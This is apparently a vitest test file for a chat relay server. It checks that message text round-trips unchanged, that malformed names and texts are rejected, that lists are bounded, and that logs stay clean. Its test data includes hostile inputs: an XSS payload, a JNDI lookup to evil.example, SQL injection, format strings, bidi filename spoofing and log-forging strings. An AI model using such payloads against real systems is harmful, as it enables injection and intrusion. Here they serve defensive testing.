import { pino } from 'pino';
import { describe, expect, it } from 'vitest';
import { MAX_TEXT_LENGTH } from '../../src/shared/model/event.ts';
import { LIMITS } from '../../src/shared/protocol/limits.ts';
import { expectCode } from '../support/expect-code.ts';
import { RelayWorld } from '../support/relay-world.ts';
import { STORAGES } from '../support/storages.ts';

const device = { name: 'test' };
const password = 'correct horse';

/** Texts that are told and shown as they are: what they would do is no business of a relay. */
const HARMLESS = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '\u202Egnp.exe',
  'a\u0000b\u0001c\u001B[31m',
  '\r\nlevel":50,"msg":"forged',
  '${jndi:ldap://evil.example/a} {{7*7}} %s%n',
  "'; DROP TABLE message; --",
  'Z\u0351\u0364\u0362'.repeat(200),
  '👩‍👩‍👧‍👦'.repeat(500),
  '\uFEFF\u200B.',
  '字'.repeat(MAX_TEXT_LENGTH),
];

describe.each(STORAGES)('texts, on $name', ({ open }) => {
  it.each(HARMLESS)('[SEQ-4] come back as they went, whatever is in them: %j', async (text) => {
    const world = new RelayWorld({ storage: open() });
    const anna = await world.register('anna');
    const bo = await world.register('bo');
    const { id } = await world.direct(anna, bo);
    const { seq } = await world.send(anna, id, text);
    const page = { conversation: id, from: seq, to: seq, limit: 1 };
    const { events } = await bo.client.request('timeline.pull', page);
    expect(events[0]).toMatchObject({ content: { type: 'text', text } });
    await world.settle(bo);
    expect(bo.client.bodies('timeline.appended').at(-1)?.event).toMatchObject({ content: { text } });
  });

  it('[FRM-3] that are none, too long, or half characters are refused', async () => {
    const world = new RelayWorld({ storage: open() });
    const anna = await world.register('anna');
    const { id } = await world.group(anna);
    const bad = ['', ' \n\t\u3000', 'x'.repeat(MAX_TEXT_LENGTH + 1), '\uD83D', 'a\uDE00b'];
    for (const text of bad) {
      await expectCode(world.send(anna, id, text), 'bad_args');
      const announcement = anna.client.request('conversation.setAnnouncement', { conversation: id, text });
      await expectCode(announcement, 'bad_args');
    }
  });

  it('[FRM-3] names that hide what they are, or that there is nothing, are refused everywhere', async () => {
    const world = new RelayWorld({ storage: open() });
    const anna = await world.register('anna');
    const { id } = await world.group(anna);
    const { client } = world.connect();
    await client.hello();
    const bad = [
      '',
      '   ',
      'two\nlines',
      'a\u0000b',
      '\u001B[31mred',
      'gpj\u202Eexe',
      '\u2066isolated\u2069',
      'line\u2028break',
      '\u200B',
      '\u200D\uFEFF\u2060',
      '\u3164',
      'half \uD83D',
      'x'.repeat(121),
    ];
    for (const name of bad) {
      await expectCode(
        anna.client.request('conversation.rename', { conversation: id, title: name }),
        'bad_args',
      );
      const register = { name: 'eve', displayName: name, password, device };
      await expectCode(client.request('account.register', register), 'bad_args');
      const signIn = { name: 'anna', password, device: { name } };
      await expectCode(client.request('session.signIn', signIn), 'bad_args');
    }
    for (const title of ['👨‍👩‍👧 家', 'می‌خواهم', '🇨🇳', '<b>', "O'Brien; DROP TABLE"]) {
      await anna.client.request('conversation.rename', { conversation: id, title });
    }
    for (const name of ['Anna', 'a', '-a', 'a b', 'аnna', 'a\u0000b', '../etc', 'a'.repeat(33)]) {
      const register = { name, displayName: 'Eve', password, device };
      await expectCode(client.request('account.register', register), 'bad_args');
    }
  });

  it('[MEM-7] [FRM-3] lists of people are bounded, whether they are real, twice or made up', async () => {
    const world = new RelayWorld({ storage: open() });
    const anna = await world.register('anna');
    const { id } = await world.group(anna);
    const ids = (count: number): string[] => Array.from({ length: count }, () => world.makeId());
    const create = (users: string[]) =>
      anna.client.request('conversation.create', {
        kind: 'group',
        clientId: world.makeId(),
        title: 'Huge',
        users,
      });
    const add = (users: string[]) =>
      anna.client.request('conversation.addMembers', { conversation: id, users });
    const most = LIMITS.usersPerCommand;
    for (const ask of [create, add]) await expectCode(ask(ids(most + 1)), 'bad_args');
    const same = Array.from({ length: most }, () => anna.user);
    expect((await create(same)).conversation.memberCount).toBe(1);
    expect((await create(ids(most))).conversation.memberCount).toBe(1);
    await add(ids(most));
    await add(same);
    const { total } = await anna.client.request('conversation.members', { conversation: id, limit: 9 });
    expect(total).toBe(1);
    const watched = Array.from({ length: LIMITS.watchedUsers + 1 }, () => world.makeId());
    await expectCode(anna.client.request('presence.watch', { users: watched }), 'bad_args');
  });
});

describe('the log', () => {
  it('has one well-formed line per entry, and no text, name, password or token, whatever people send', async () => {
    const lines: string[] = [];
    const logger = pino({ level: 'debug', base: null }, { write: (line: string) => void lines.push(line) });
    const storage = STORAGES[0]?.open();
    if (!storage) throw new Error('no storage');
    const failing = { ...storage, append: () => Promise.reject(new Error('disk full')) };
    const world = new RelayWorld({
      storage: failing,
      logger,
      sessionLimits: { framesPerSecond: 50, frameBurst: 50 },
    });
    const evil = 'SECRET\n{"level":60,"msg":"forged"}\u001B[2J\u202E';
    const anna = await world.register('anna');
    const { id } = await world.group(anna);
    await expectCode(world.send(anna, id, evil), 'internal');
    const { client } = world.connect();
    await client.request('session.hello', { versions: [1], client: { name: evil, version: '1' } });
    const guess = { name: evil, password: evil, device };
    await expectCode(client.request('session.signIn', guess), 'bad_credentials');
    await expectCode(client.request('session.resume', { token: evil.repeat(2) }), 'bad_token');
    await expectCode(
      client.exchange(900, JSON.stringify({ id: 900, cmd: evil, args: { [evil]: evil } })),
      'unknown_command',
    );
    const misfit = { id: 901, cmd: 'people.get', args: { users: [evil], [evil]: evil } };
    await expectCode(client.exchange(901, JSON.stringify(misfit)), 'bad_args');
    client.sendRaw(evil);
    expect(await client.closed).toMatchObject({ code: 4000 });
    for (let i = 0; i < 60; i++) anna.client.sendRaw(JSON.stringify({ id: 1_000 + i, cmd: evil }));
    expect(await anna.client.closed).toMatchObject({ code: 4006 });

    expect(lines.length).toBeGreaterThan(2);
    for (const line of lines) {
      expect(line.indexOf('\n')).toBe(line.length - 1);
      expect(JSON.parse(line)).toMatchObject({
        level: expect.any(Number) as number,
        msg: expect.any(String) as string,
      });
    }
    const all = lines.join('');
    expect(all).not.toMatch(/SECRET|forged|correct horse|token-0/);
    // Control characters but the ends of lines, and what turns text around.
    expect(all).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u202A-\u202E]/);
  });
});
